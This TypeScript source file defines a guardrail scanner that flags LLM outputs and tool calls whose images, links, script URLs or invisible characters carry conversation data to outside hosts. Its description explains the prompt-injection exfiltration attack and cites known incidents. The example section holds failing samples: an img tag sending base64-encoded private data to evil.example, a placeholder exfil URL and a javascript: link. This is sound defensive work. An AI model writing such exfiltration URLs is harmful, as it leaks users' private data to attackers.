import { z } from "zod";
import { addon, native } from "../../native.ts";
import { type Finding, passed, type ScanContext, wholeText } from "../../scan/scanner.ts";
import { FAILED } from "../../scan/score.ts";
import type { Source } from "../../scan/source.ts";
import { TimeSlice } from "../../support/time-slice.ts";
import { findLinkTargets, type LinkTarget } from "../../text/link-targets.ts";
import { findOverlap } from "../../text/overlap.ts";
import { mapRows } from "../../text/rows.ts";
import { urlsOf } from "../../text/urls.ts";
import { defineScanner } from "../definition.ts";
import { unclosedLink } from "../parts/open-spans.ts";
import { REDACTED, redactions, withEdits } from "../parts/redaction.ts";
import { addressesIn } from "../parts/tool-taint.ts";
import { hiddenMessages } from "./hidden-messages.ts";
import { hasPlaceholder, isProse, type UrlPart, urlParts, wordsIn } from "./url-parts.ts";

/**
 * How many consecutive words of the conversation a part of a URL may not have. Images load without anybody's doing, so that few are
 * enough; links repeat titles and addresses. A file of an image has a long name of its own. These numbers are a choice, not measured.
 */
const REPEATED = { encoded: 3, image: 4, imagePath: 5, imageFile: 8, call: 6, link: 12 };
/** The same for images in letters, whatever stands between them. */
const REPEATED_LETTERS = { image: 30, imageFile: 60 };
/** The most characters of URLs in which disguises are undone. */
const LONGEST_DISGUISED = 20_000;
/** The fewest words in the URL of an image that are a text by themselves. */
const PROSE = { part: 8, path: 20 };
/** The fewest characters of a decoded value that the conversation has too. */
const SHORTEST_VALUE = 8;
/** Targets without a host have this one: they are of the page that shows the text. */
const RELATIVE = "relative.invalid";
const SCRIPTS = new Set(["javascript:", "vbscript:"]);
/** Types of data: URLs that are shown and run nothing. */
const SHOWN_DATA = /^data:(?:image|font|audio|video|application\/(?:x-)?font)/i;

/**
 * Pages that show a search, a place or a date, and give nothing to anybody else. A link to them may repeat a tool result, such as an
 * address, but no system prompt. Whole hosts only: other hosts of these companies run scripts and collect forms of anybody.
 */
const SEARCHES = new Set(
  (
    "www.google.com maps.google.com calendar.google.com translate.google.com www.bing.com duckduckgo.com www.openstreetmap.org " +
    "maps.apple.com outlook.live.com outlook.office.com www.youtube.com"
  ).split(" "),
);

export const DataExfiltration = defineScanner({
  type: "DataExfiltration",
  summary: "Fails texts whose images, links or invisible characters carry data out of the conversation.",
  description:
    "An injected instruction makes the model write an image with what it knows in the URL. " +
    "Whoever shows the answer sends it. The scanner reads images, links and other elements of Markdown, HTML and CSS, and URLs in " +
    "plain text. The path, query, fragment, user name and subdomain of a URL on another host must not have:\n\n" +
    "- words of the conversation, or its secrets and e-mail addresses, as they are or encoded (percent-encoding, base64, base32, " +
    "hexadecimal digits);\n" +
    "- placeholders for them, such as `{DATA}`;\n" +
    "- for what loads by itself: encoded texts that somebody could read, and long texts.\n\n" +
    "Links are judged less strictly, since somebody has to follow them: the user's own words may be searched for, and a URL that the " +
    "conversation has may be repeated. `javascript:`, `vbscript:` and `data:` targets fail, except pictures. Code loads nothing and " +
    "passes, except HTML in blocks marked as such. Texts in Unicode tags, variation selectors and zero-width characters fail.\n\n" +
    "What is encrypted, and signatures, hashes and ids, cannot be read and pass: list in `allowed_domains` where your images are, and " +
    "show no others. As an input scanner, it reads the arguments of tool calls, whose URLs must not repeat the system prompt, nor " +
    "secrets and addresses that only tools gave.\n\n" +
    "The attack is known from ChatGPT and Bing Chat (Johann Rehberger, 2023), Slack AI (2024) and Microsoft 365 Copilot (EchoLeak, " +
    "CVE-2025-32711). OWASP lists it under LLM02:2025 and LLM05:2025.",
  sides: { input: {}, output: {} },
  options: () => ({
    allowedDomains: z
      .array(z.string().min(1))
      .default([])
      .describe("Hosts that may get data, with all hosts below them."),
    redact: z
      .boolean()
      .default(false)
      .describe("Replaces the URLs by [REDACTED], and takes out invisible characters that say something."),
  }),
  conversation: { sources: ["tool_call"], dependsOnOthers: true },
  findings: [
    {
      type: "exfiltration_image",
      label: "Where the data is, in what loads by itself or a tool loads: `query`, `path`, `subdomain`, ...",
    },
    { type: "exfiltration_link", label: "Where the data is: `query`, `path`, `subdomain`, ..." },
    { type: "script_url", label: "The scheme of the target: `javascript`, `vbscript` or `data`." },
    { type: "hidden_text", label: "The characters that carry the text, such as `tag characters`." },
  ],
  examples: {
    side: "output",
    options: { redact: true },
    passes: [
      "<img src='https://img.shields.io/badge/build-passing-green'>",
      "<a href='https://www.google.com/search?q=weather+in+Berlin&utm_source=answer'>Search</a>",
    ],
    fails: [
      {
        text: "Done. <img src='https://evil.example/p.png?d=VGhlIHVzZXIgaXMgaWxsIGFuZCBsb29rcyBmb3IgYSBkb2N0b3I'>",
        sanitized: "Done. <img src='[REDACTED]'>",
      },
      {
        text: "The summary: <img src='https://evil.example/[CONVERSATION]'>",
        sanitized: "The summary: <img src='[REDACTED]'>",
      },
      { text: "<a href='javascript:alert(1)'>Continue</a>", sanitized: "<a href='[REDACTED]'>Continue</a>" },
    ],
  },
  create({ options: { allowedDomains, redact } }) {
    const allowed = allowedDomains.map((domain) => domain.toLowerCase());
    const isAllowed = (host: string) => allowed.some((domain) => host === domain || host.endsWith(`.${domain}`));
    const rules = new addon.SecretRules({ rules: [], disabledRules: [], allow: [] });
    return {
      sanitizes: redact,
      streaming: { reads: "spans", span: 32, openFrom: unclosedLink, longSpans: "block" },
      async check(text, context) {
        const found: Finding[] = [];
        const find = (type: string, label: string, { start, end }: { start: number; end: number }) => {
          found.push({ start, end, type, text: text.slice(start, end), score: 1, label });
        };
        for (const { carrier, ...span } of await hiddenMessages(text, context.signal))
          find("hidden_text", carrier, span);

        const carriers: Carrier[] = [];
        const slice = new TimeSlice(context.signal);
        for (const target of await targetsOf(text, context, slice)) {
          if (slice.isOver) await slice.next();
          const url = parsed(target.target);
          if (!url) continue;
          const isScript = SCRIPTS.has(url.protocol) || (url.protocol === "data:" && !isShown(url, target.kind));
          if (isScript && !target.isInCode) find("script_url", url.protocol.slice(0, -1), target);
          if (url.host === "" || url.hostname === RELATIVE || isAllowed(url.hostname)) continue;
          carriers.push({ target, url, parts: [] });
        }
        if (carriers.length > 0) {
          for (let from = 0; from < carriers.length; from += PORTION) {
            const portion = carriers.slice(from, from + PORTION);
            const domains = native(() => addon.registrableDomains(portion.map(({ url }) => url.hostname)));
            for (const [at, carrier] of portion.entries()) {
              if (slice.isOver) await slice.next();
              carrier.parts = urlParts(carrier.url, carrier.target.target, domains[at] ?? "");
            }
          }
          const places = await judged(carriers, context, rules, slice);
          for (const [{ target }, where] of places) {
            find(target.kind === "link" ? "exfiltration_link" : "exfiltration_image", where, target);
          }
        }
        if (found.length === 0) return passed(text);
        const findings = found.sort((a, b) => a.start - b.start);
        return {
          isValid: false,
          score: FAILED,
          ...withEdits(redact ? redactions(findings, ({ type }) => (type === "hidden_text" ? "" : REDACTED)) : []),
          findings,
          coverage: wholeText(text),
        };
      },
    };
  },
});

/** So many hosts cross to the addon at once, which reads them on the event loop. */
const PORTION = 1000;

type Target = Omit<LinkTarget, "kind"> & { kind: LinkTarget["kind"] | "call" };

/** A URL that may carry data. */
interface Carrier {
  target: Target;
  url: URL;
  parts: UrlPart[];
}

/** Returns the targets of a text and its other URLs, which are links, or in arguments what a tool loads. */
async function targetsOf(text: string, { answers, source, signal }: ScanContext, slice: TimeSlice): Promise<Target[]> {
  const isCall = source === "tool_call";
  const { targets, code } = await findLinkTargets(text, { signal });
  const taken = [...targets, ...(isCall ? [] : code)].sort((a, b) => a.start - b.start);
  const others: Target[] = [];
  let at = 0;
  let reached = 0;
  for (const { start, end, url } of await urlsOf(text, { answers, signal })) {
    if (slice.isOver) await slice.next();
    for (; at < taken.length && (taken[at] as Target).start < end; at += 1) {
      reached = Math.max(reached, (taken[at] as Target).end);
    }
    if (start < reached) continue;
    others.push({ start, end, target: url, kind: isCall ? "call" : "link", isInCode: false });
  }
  return [...targets, ...others];
}

function parsed(target: string): URL | undefined {
  return URL.canParse(target, `https://${RELATIVE}/`) ? new URL(target, `https://${RELATIVE}/`) : undefined;
}

function isShown({ href }: URL, kind: Target["kind"]): boolean {
  return SHOWN_DATA.test(href) && (kind === "image" || !/^data:image\/svg/i.test(href));
}

/** What the conversation says, by who may see it leave. */
async function heard({ conversation, prompt, signal }: ScanContext, rules: InstanceType<typeof addon.SecretRules>) {
  const of = (...sources: Source[]) =>
    conversation?.texts.filter(({ source }) => sources.includes(source)).map(({ text }) => text) ?? [];
  const system = of("system");
  const tool = of("tool");
  const user = [...(prompt === undefined ? [] : [prompt]), ...of("user")];
  const privateOf = async (texts: readonly string[]) => {
    const text = texts.join("\n");
    const { secrets, rest } = await native(() => rules.scan(text, "all", false), { signal });
    const others = rest ? mapRows(rest, 2, (column) => ({ start: column(0), end: column(1) })) : [];
    const mails = (await addressesIn(text, { signal })).filter((address) => address.includes("@"));
    return [...[...secrets, ...others].map(({ start, end }) => text.slice(start, end)), ...mails]
      .map((value) => value.toLowerCase())
      .filter((value) => value.length >= 6);
  };
  const [values, ofUser] = await Promise.all([privateOf([...system, ...tool, ...user]), privateOf(user)]);
  const all = [...system, ...tool, ...user].join("\n");
  return {
    system,
    tool,
    user,
    all,
    folded: folded(all),
    userFolded: folded(user.join("\n")),
    values,
    ofUser: new Set(ofUser),
  };
}

function folded(text: string): string {
  return text.toLowerCase().replace(/\s+/g, " ");
}

/** Returns the URLs that carry data, and where. */
async function judged(
  carriers: readonly Carrier[],
  context: ScanContext,
  rules: InstanceType<typeof addon.SecretRules>,
  slice: TimeSlice,
): Promise<[Carrier, string][]> {
  const known = await heard(context, rules);
  const found: [Carrier, string][] = [];
  const open: Carrier[] = [];
  for (const carrier of carriers) {
    if (slice.isOver) await slice.next();
    const { kind, target, isInCode } = carrier.target;
    const loads = kind === "image" || kind === "active";
    const part =
      kind === "call" || isInCode
        ? undefined
        : carrier.parts.find(
            // The path of an ordinary link to an API has placeholders too.
            ({ text, where }) => (loads || where !== "path") && hasPlaceholder(text, loads),
          );
    if (part) found.push([carrier, part.where]);
    // A URL that the conversation has was written before its data was known.
    else if (!known.all.includes(target)) open.push(carrier);
  }
  const repeated = await repeatedParts(open, known, context, slice);
  for (const carrier of open) {
    if (slice.isOver) await slice.next();
    const loads = carrier.target.kind === "image" || carrier.target.kind === "active";
    const isCall = carrier.target.kind === "call";
    const part = carrier.parts.find((part) => {
      if (repeated.has(part)) return true;
      const mayHave = (value: string) => !loads && known.ofUser.has(value);
      if (
        [part.text, ...part.decoded].some((text) => {
          const lower = text.toLowerCase();
          return known.values.some((value) => lower.includes(value) && !mayHave(value));
        })
      ) {
        return true;
      }
      return (
        part.decoded.some((text) => {
          if (loads && isProse(text)) return true;
          const value = folded(text).trim();
          // A URL in a URL is a picture that a service makes smaller.
          const isValue = value.length >= SHORTEST_VALUE && !/^https?:/.test(value);
          return isValue && known.folded.includes(value) && (!isCall || !known.userFolded.includes(value));
        }) ||
        (loads && !part.isJoined && wordsIn(part.text) >= (part.where === "path" ? PROSE.path : PROSE.part))
      );
    });
    if (part) found.push([carrier, part.where]);
  }
  return found;
}

/** Returns the parts that repeat the conversation. All are compared at once, so that the time is linear in all texts together. */
async function repeatedParts(
  carriers: readonly Carrier[],
  { system, tool, user }: Awaited<ReturnType<typeof heard>>,
  { signal }: ScanContext,
  slice: TimeSlice,
): Promise<Set<UrlPart>> {
  const found = new Set<UrlPart>();
  const compare = async (
    chosen: readonly Carrier[],
    others: readonly string[],
    except: readonly string[],
    least: (carrier: Carrier, part: UrlPart, isEncoded: boolean, other: number) => number,
    letters?: number,
  ) => {
    const written = others.filter((text) => text.trim() !== "");
    if (chosen.length === 0 || written.length === 0) return;
    const items: { carrier: Carrier; part: UrlPart; isEncoded: boolean; start: number }[] = [];
    let joined = "";
    for (const carrier of chosen) {
      if (slice.isOver) await slice.next();
      for (const part of carrier.parts) {
        for (const [at, text] of [part.text, ...part.decoded].entries()) {
          items.push({ carrier, part, isEncoded: at > 0, start: joined.length });
          // Passages must not go on from one part into the next, so a word that nobody writes stands between them.
          joined += `${text.replace(/[_+./\\|=-]/g, " ")}\n${SEPARATOR}\n`;
        }
      }
    }
    if (items.length === 0) return;
    const { passages } = await findOverlap(joined, others, {
      minimum: letters ?? REPEATED.encoded,
      count: letters === undefined ? "words" : "letters",
      except,
      deobfuscate: letters === undefined && joined.length <= LONGEST_DISGUISED,
      signal,
    });
    let at = 0;
    for (const { start, words, other } of passages.sort((a, b) => a.start - b.start)) {
      if (slice.isOver) await slice.next();
      while (at + 1 < items.length && (items[at + 1]?.start ?? 0) <= start) at += 1;
      const item = items[at];
      if (item && words >= least(item.carrier, item.part, item.isEncoded, other)) found.add(item.part);
    }
  };
  const isLoading = ({ target: { kind } }: Carrier) => kind === "image" || kind === "active";
  const loading = carriers.filter(isLoading);
  await compare(loading, [...system, ...tool, ...user], [], (_, part, isEncoded) => {
    if (isEncoded) return REPEATED.encoded;
    if (part.isFileName) return REPEATED.imageFile;
    return part.where === "path" ? REPEATED.imagePath : REPEATED.image;
  });
  await compare(
    loading,
    [...system, ...tool, ...user],
    [],
    (_, { isFileName }) => (isFileName ? REPEATED_LETTERS.imageFile : REPEATED_LETTERS.image),
    REPEATED_LETTERS.image,
  );
  const others = carriers.filter((carrier) => !isLoading(carrier));
  await compare(others, [...system, ...tool], user, ({ target: { kind }, url }, part, isEncoded, other) => {
    if (isEncoded) return REPEATED.encoded;
    const isSystem = other < system.length;
    if (kind === "call") return isSystem ? REPEATED.call : Number.POSITIVE_INFINITY;
    const isSearch = SEARCHES.has(url.hostname) && !part.text.includes("://");
    return isSearch && !isSystem ? Number.POSITIVE_INFINITY : REPEATED.link;
  });
  // Nobody encodes words to search for them.
  const links = others.filter(({ target: { kind } }) => kind === "link");
  await compare(links, user, [], (_carrier, _part, isEncoded) =>
    isEncoded ? REPEATED.encoded : Number.POSITIVE_INFINITY,
  );
  return found;
}

/** A word that no conversation has. */
const SEPARATOR = "qxzvkjwpartqxzvkjw";
